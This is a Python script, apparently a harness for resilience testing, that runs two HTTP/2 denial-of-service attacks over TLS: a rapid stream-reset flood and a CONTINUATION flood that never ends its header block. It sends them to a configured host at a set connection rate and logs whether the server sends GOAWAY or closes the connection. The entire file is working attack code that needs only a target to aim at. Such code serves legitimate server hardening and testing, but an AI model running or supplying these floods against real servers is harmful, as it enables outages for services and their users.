"""Hostile clients of HTTP/2, frame by frame over TLS, run as a program: `flood.py TASK OUT`, both JSON.

`resets` opens streams and resets each at once; `continuations` sends a header block that never ends. A connection that
the server has closed is followed by another, at the pace that the task names.
"""

from __future__ import annotations

import json
import os
import socket
import ssl
import struct
import sys
import time
from pathlib import Path
from typing import Any

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY, CONTINUATION = 1, 3, 4, 7, 9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 8
# RFC 7541: `:method: GET`, `:scheme: https`, then `:authority` and `:path` as literals without indexing.
BLOCK = b"\x82\x87\x01\x05flood\x04\x04/v2/"
# A literal of a new name, again and again.
FILLING = b"\x00\x01x\x64" + b"y" * 100
FRAME_BYTES = 16_000
CLOSE_SECONDS = 20.0
NO_GOAWAY = -1


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def reset_frames(count: int) -> bytes:
    one_after_the_other = range(1, 2 * count, 2)
    reset = struct.pack(">I", CANCEL)
    return b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, stream, BLOCK) + frame(RST_STREAM, 0, stream, reset)
        for stream in one_after_the_other
    )


def endless_head(frames: int) -> bytes:
    more = frame(CONTINUATION, 0, 1, FILLING * (FRAME_BYTES // len(FILLING)))
    return frame(HEADERS, END_STREAM, 1, BLOCK) + more * frames


def attack(task: dict[str, Any], context: ssl.SSLContext, payload: bytes) -> dict[str, Any]:
    """One connection: sends all of it, or what the server takes, then waits for the server to close."""
    sent, error = 0, NO_GOAWAY
    closed = False
    with socket.create_connection((task["host"], task["port"]), timeout=CLOSE_SECONDS) as plain:
        with context.wrap_socket(plain, server_hostname=task["host"]) as secure:
            received = b""
            try:
                secure.sendall(PREFACE + frame(SETTINGS, 0, 0))
                for start in range(0, len(payload), FRAME_BYTES):
                    secure.sendall(payload[start : start + FRAME_BYTES])
                    sent += min(FRAME_BYTES, len(payload) - start)
                while part := secure.recv(65536):
                    received += part
                closed = True
            except (ssl.SSLError, ConnectionError):
                closed = True
                received += _rest(secure)
            except TimeoutError:
                pass
            error = goaway(received)
    return {"sent": sent / len(payload), "bytes": sent, "closed": closed, "goaway": error}


def _rest(secure: ssl.SSLSocket) -> bytes:
    """What had come before the connection broke."""
    rest = b""
    try:
        while part := secure.recv(65536):
            rest += part
    except OSError:
        pass
    return rest


def goaway(received: bytes) -> int:
    """The error code of the GOAWAY among these frames."""
    while len(received) >= 9:
        length, kind = int.from_bytes(received[:3]), received[3]
        if kind == GOAWAY and len(received) >= 17:
            return int.from_bytes(received[13:17])
        received = received[9 + length :]
    return NO_GOAWAY


def main(task: dict[str, Any]) -> list[dict[str, Any]]:
    context = ssl.create_default_context(cafile=task["ca"])
    context.set_alpn_protocols(["h2"])
    size = task["each"]
    payload = reset_frames(size) if task["kind"] == "resets" else endless_head(size)
    print("begun", flush=True)
    began, done = time.monotonic(), []
    while time.monotonic() < began + task["seconds"]:
        time.sleep(max(0.0, began + len(done) / task["connections_per_second"] - time.monotonic()))
        done.append(attack(task, context, payload) | {"at": time.monotonic() - began})
    return done


if __name__ == "__main__":
    # An attacker has a machine of its own: here it must not take the CPU of those whom it attacks.
    os.nice(10)
    Path(sys.argv[2]).write_text(json.dumps(main(json.loads(Path(sys.argv[1]).read_text()))))
